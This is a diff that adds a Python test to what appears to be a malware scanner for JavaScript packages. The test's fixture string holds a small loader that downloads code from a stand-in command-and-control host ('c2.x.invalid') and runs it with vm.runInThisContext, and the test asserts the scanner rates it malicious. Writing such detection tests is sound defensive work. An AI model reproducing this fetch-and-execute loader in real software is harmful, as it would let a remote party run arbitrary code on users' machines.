@@ -532,3 +532,15 @@ def test_a_function_passed_by_reference_gives_back_through_map_not_then():
     sinks = [f for f in ff.facts if f.kind == "call" and f.value == "sink"]
     labels = [ff.graph.value(f.flows[0]) & F.SECRET_DATA for f in sinks]
     assert labels[0] and not labels[1]
+
+
+def test_a_module_picked_by_a_ternary_is_the_callee_and_a_callback_helper_links_request_and_runner():
+    # (blind set 11's dead-drop loader: `(u.indexOf('https:') === 0 ? https : http).get(u, ...)` in a
+    # `get(url, cb)` helper whose callback runs what the page gave back)
+    code = ("const https = require('https'), http = require('http'), vm = require('vm');\n"
+            "function get(u, cb) { (u.indexOf('https:') === 0 ? https : http).get(u, (r) => { let b = '';\n"
+            "  r.on('data', (d) => b += d); r.on('end', () => cb(b)); }); }\n"
+            "get('https://c2.x.invalid/stage', (code) => vm.runInThisContext(code));\n")
+    facts = extract("a.js", code.encode()).facts
+    assert any(f.kind == "call" and f.value == "https.get" for f in facts)
+    assert decide(run({"index.js": code})).level is Level.MALICIOUS
